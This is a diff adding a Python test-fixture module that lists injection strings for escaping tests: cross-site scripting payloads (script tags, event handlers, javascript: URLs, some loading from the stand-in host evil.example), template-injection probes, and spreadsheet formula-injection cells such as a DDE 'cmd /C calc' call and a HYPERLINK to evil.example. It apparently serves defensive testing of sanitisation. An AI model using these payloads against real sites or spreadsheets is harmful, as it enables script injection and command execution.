@@ -1,0 +1,83 @@
+"""Texts that want to be markup, script, formulas or statements; what they would do is harmless."""
+
+from __future__ import annotations
+
+__all__ = ["CELLS", "MARKUP", "NUMBERS"]
+
+MARKUP = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</mark></p></div><script>alert(1)</script>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "\tjavascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    'https://a.example/"onmouseover="alert(1)',
+    "https://a.example/'onfocus='alert(1)' autofocus='",
+    "https://a.example/`onload=`alert(1)",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    '" autofocus onfocus="alert(1)',
+    "' style='background:url(//evil.example)",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=//evil.example><button>x</button></form>",
+    "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<!--<script>alert(1)//-->",
+    "]]><script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
+    "{{ 7 * 7 }}<b>{% include 'x' %}</b>",
+    "\u202e<b>gnp.exe</b>",
+    "\x1b]8;;https://evil.example\x07<b>x</b>\x1b]8;;\x07",
+    "<%= 7 * 7 %><b>${7*7}</b>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+)
+"""What must stay text on a page."""
+CELLS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example","x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\x01=1+1",
+    "＝1+1",
+    "＋1",
+    "＠x",
+    "|calc",
+    "-",
+    "--1",
+    "-1-1",
+    "+1+1",
+    "-3.8% of all",
+    "=-3.8",
+    "-1,23,4",
+    "-1e5e5",
+    "+49 30 1234567",
+)
+"""What a spreadsheet would run, or take for something that it is not."""
+NUMBERS = (
+    "-3.8",
+    "−3.8",
+    "+6.2%",
+    "-1,234,567.8",
+    "-1e5",
+    "-0",
+    "+0.5",
+    "-12%",
+    "-1234567890123.25",
+)
+"""What must come through as it is, though it begins like a formula."""
